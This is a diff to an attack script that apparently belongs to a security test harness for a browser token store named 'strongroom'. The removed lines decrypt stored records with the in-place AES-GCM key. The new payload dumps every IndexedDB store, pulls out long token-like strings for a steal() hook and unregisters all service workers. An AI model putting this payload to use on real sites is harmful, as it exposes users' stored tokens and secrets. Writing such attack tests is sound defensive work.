@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "the verifier out of IndexedDB, the worker unregistered while the user signs in",
+  name: "what rests in IndexedDB, the worker unregistered while the user signs in",
   threat: "acquisition of new tokens",
   target: "strongroom",
   leavesWorkers: true,
@@ -13,7 +13,6 @@ export default attack({
       (navigation?.entries() ?? []).map(({ url }) => url),
     );
   },
-  // The key cannot be exported; it can be used where it lies.
   async payload(it) {
     const done = <T>(request: IDBRequest<T>) =>
       new Promise<T>((resolve, reject) => {
@@ -21,16 +20,12 @@ export default attack({
         request.onerror = () => reject(request.error);
       });
     const database = await done(indexedDB.open("strongroom"));
-    const all = (store: string) => database.transaction(store).objectStore(store);
-    const key = (await done(all("values").get("sealing"))) as CryptoKey;
-    const names = await done(all("transactions").getAllKeys());
-    const rows = (await done(all("transactions").getAll())) as { iv: BufferSource; data: BufferSource }[];
-    database.close();
-    for (const [index, { iv, data }] of rows.entries()) {
-      const additionalData = new TextEncoder().encode(String(names[index]));
-      const opened = await crypto.subtle.decrypt({ name: "AES-GCM", iv, additionalData }, key, data);
-      it.steal(new TextDecoder().decode(opened));
+    for (const name of database.objectStoreNames) {
+      const store = database.transaction(name).objectStore(name);
+      const all = JSON.stringify([await done(store.getAllKeys()), await done(store.getAll())]);
+      it.steal(all, ...(all.match(/[\w-]{43,}/g) ?? []));
     }
+    database.close();
     for (const registration of await navigator.serviceWorker.getRegistrations())
       await registration.unregister();
   },
